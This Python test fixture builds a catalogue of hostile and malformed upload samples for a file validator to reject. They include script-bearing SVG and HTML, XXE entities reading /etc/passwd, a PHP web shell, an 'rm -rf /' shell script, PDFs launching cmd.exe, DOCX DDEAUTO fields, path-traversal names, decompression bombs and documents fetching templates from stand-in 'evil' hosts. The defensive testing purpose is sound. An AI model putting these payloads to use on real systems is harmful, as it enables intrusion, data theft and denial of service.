"""Sixty files and more that must not be let in, made here: by kind of harm, name to bytes."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from tests.codec.attached import made

SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ENTITY = '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_NAME = pikepdf.Name
_WORDS = pikepdf.String


def _pages() -> Mapping[str, bytes]:
    """Pages and programs that call themselves text."""
    return {
        "svg with a script": SVG,
        "svg behind words": b"Bridge\n\n" + SVG,
        "svg in utf-16": SVG.decode().encode("utf-16"),
        "html": b"<!DOCTYPE html><html><body>x</body></html>",
        "html in capitals": b"<HTML><BODY ONLOAD=alert(1)>",
        "html behind a mark": b"\xef\xbb\xbf  <html>",
        "xml": b'<?xml version="1.0"?><a/>',
        "style sheet of xml": b'x <?xml-stylesheet href="//evil"?>',
        "xxe": f"<?xml version='1.0'?>{ENTITY}<d>&e;</d>".encode(),
        "php": b"<?php system($_GET['x']); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "batch": b"@echo off\r\n",
        "rtf with an object": b"{\\rtf1{\\object\\objocx}}",
        "postscript": b"%!PS-Adobe\n",
        "calendar": b"BEGIN:VCALENDAR\nEND:VCALENDAR\n",
        "frame": b"See <iframe src=//evil></iframe>",
        "program of windows": b"MZ\x90\x00" + bytes(60),
        "program of linux": b"\x7fELF" + bytes(60),
        "gif": b"GIF89a" + bytes(20),
        "gif with a script": b"GIF89a/*" + SCRIPT + b"*/",
        "nul signs": b"Bridge\0Bridge",
        "bell": b"Bridge \x07\x1b[2J",
        "other letters": b"Br\xfccke",
        "rar": b"Rar!\x1a\x07\x00",
        "gzip": b"\x1f\x8b\x08" + zlib.compress(b"x"),
        "nothing": b"",
        "too large": b"x" * 25_000_001,
    }


def _pictures() -> Mapping[str, bytes]:
    rows = zlib.compress(bytes(60_000_000), 9)
    header = made.png()[8:33]
    bomb = b"\x89PNG\r\n\x1a\n" + header + made.chunk(b"IDAT", rows) + made.chunk(b"IEND", b"")
    huge = made.chunk(b"IHDR", (19_999).to_bytes(4) * 2 + b"\x08\x06\0\0\0")
    jpeg = made.jpeg()
    return {
        "png and zip": made.png() + made.docx(),
        "png and html": made.png() + SCRIPT,
        "png with a script in its notes": made.with_chunk(b"tEXt", b"Comment\0" + SCRIPT),
        "png with an unknown chunk": made.with_chunk(b"EvIl", b"x"),
        "png with a wrong sum": made.png()[:-2] + b"xx",
        "png cut short": made.png()[:-20],
        "png that unpacks into more than it draws": bomb,
        "png of a huge picture": b"\x89PNG\r\n\x1a\n" + huge + made.png()[33:],
        "jpeg and html": jpeg + SCRIPT,
        "jpeg and zip": jpeg + made.docx(),
        "jpeg with a page in its remark": made.jpeg(comment=SCRIPT),
        "jpeg cut short": jpeg[:-4],
        "jpeg without a picture": b"\xff\xd8\xff\xd9",
        "jpeg that is html": b"\xff\xd8\xff\xe0" + SCRIPT,
    }


def _locked() -> bytes:
    with pikepdf.open(io.BytesIO(made.pdf())) as file:
        out = io.BytesIO()
        file.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
        return out.getvalue()


def _carrying() -> bytes:
    with pikepdf.open(io.BytesIO(made.pdf())) as file:
        file.attachments["evil.exe"] = b"MZ"
        out = io.BytesIO()
        file.save(out)
        return out.getvalue()


def _action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=_NAME(f"/{kind}"), **more)  # type: ignore[arg-type]


def _pdfs() -> Mapping[str, bytes]:
    plain = made.pdf()
    return {
        "pdf with a program": made.pdf(OpenAction=_action("JavaScript", JS=_WORDS("app.alert(1)"))),
        "pdf with programs by name": made.pdf(
            Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))
        ),
        "pdf that starts a program": made.pdf(OpenAction=_action("Launch", F=_WORDS("cmd.exe"))),
        "pdf that acts when it closes": made.pdf(AA=pikepdf.Dictionary(WC=_action("URI"))),
        "pdf that opens another": made.pdf(OpenAction=_action("GoToR", F=_WORDS("//evil/x.pdf"))),
        "pdf that carries a file": _carrying(),
        "pdf with a form of xml": made.pdf(AcroForm=pikepdf.Dictionary(XFA=_WORDS("<xdp/>"))),
        "pdf that is locked": _locked(),
        "pdf and zip": plain + made.docx(),
        "pdf and html": plain + SCRIPT,
        "pdf cut short": plain[: len(plain) // 3],
        "pdf by name alone": b"%PDF-1.7\n" + SCRIPT,
        "pdf behind a script": SCRIPT + plain,
    }


def _relation(kind: str, target: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return made.RELS.format(
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def _with(name: str, part: bytes | str = "x") -> bytes:
    """A DOCX file with one more part, of any name."""
    out = io.BytesIO(made.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, part)
    return out.getvalue()


def _lying() -> bytes:
    """A package that says of a part that it is small."""
    data = bytearray(made.docx(word__styles_xml="<s>" + "0" * 5_000_000 + "</s>"))
    at = data.find(b"word/styles.xml", data.rfind(b"word/document.xml"))
    data[at - 22 : at - 18] = (100).to_bytes(4, "little")
    return bytes(data)


def _packages() -> Mapping[str, bytes]:
    text = f'<w:document xmlns:w="{made.W}">'
    macro = made.TYPES.replace(made.MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    doc = "word/document.xml"
    return {
        "docx with an entity from a file": made.package(
            {"[Content_Types].xml": made.TYPES, doc: f"{ENTITY}{text}&e;</w:document>"}
        ),
        "docx with a thousand laughs": made.package(
            {"[Content_Types].xml": made.TYPES, doc: f"{LAUGHS}{text}&b;</w:document>"}
        ),
        "docx with macros": _with("word/vbaProject.bin"),
        "docx that says it has macros": made.package({"[Content_Types].xml": macro, doc: text}),
        "docx with an object": made.docx("<w:p><w:object/></w:p>"),
        "docx with an embedded file": _with("word/embeddings/oleObject1.bin"),
        "docx with another text in it": made.docx("<w:altChunk/>"),
        "docx with a template from elsewhere": made.docx(word___rels__settings_xml_rels="x"),
        "docx with a name above its folder": _with("../../etc/passwd"),
        "docx with a name from the root": _with("/etc/passwd"),
        "docx with a name of windows": _with("word\\..\\..\\evil.xml"),
        "docx with a part twice": _with("WORD/document.xml", text),
        "docx with a svg picture": _with("word/media/x.svg", SVG),
        "docx with a picture that is none": _with("word/media/x.png", SVG),
        "docx with a field that fetches": made.docx(
            "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"
        ),
        "docx with a field in one word": made.docx('<w:fldSimple w:instr="INCLUDEPICTURE //x"/>'),
        "docx with a field in pieces": made.docx(
            "<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"
        ),
        "docx that names who changed it": made.docx('<w:ins w:author="Jane Doe"><w:r/></w:ins>'),
        "docx with remarks": _with("word/comments.xml"),
        "docx that fetches a picture": _with(
            "word/_rels/document.xml.rels", _relation("image", "http://evil/x.png")
        ),
        "docx that fetches its template": _with(
            "word/_rels/settings.xml.rels", _relation("attachedTemplate", "http://evil/x.dotm")
        ),
        "docx with a link that runs": _with(
            "word/_rels/document.xml.rels", _relation("hyperlink", "javascript:alert(1)")
        ),
        "docx that is a bomb": made.docx(word__styles_xml="<s>" + "0" * 30_000_000 + "</s>"),
        "docx that lies about a size": _lying(),
        "docx behind html": SCRIPT + made.docx(),
        "docx with html behind": made.docx() + SCRIPT,
        "docx that is no xml": made.docx("<w:p>"),
        "odt with a program": made.odt('<script language="Basic">x</script>'),
        "odt with a listener": made.odt("<event-listeners/>"),
        "odt with an object": made.odt("<object/>"),
        "odt with a library of programs": made.odt(Basic__script_xml="<x/>"),
        "odt that fetches a picture": made.odt('<image l:href="http://evil/x.png"/>'),
        "odt with a link that runs": made.odt('<a l:href="vnd.sun.star.script:x"/>'),
        "odt that names who changed it": made.odt("<tracked-changes/>"),
        "odt with an entity": made.odt(styles_xml=f"{ENTITY}<s>&e;</s>"),
        "a zip of anything": made.package({"a.txt": "x"}),
        "a table": made.package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "an empty zip": b"PK\5\6" + bytes(18),
        "an archive of java": made.package({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe"}),
    }


FILES: Mapping[str, bytes] = {**_pages(), **_pictures(), **_pdfs(), **_packages()}
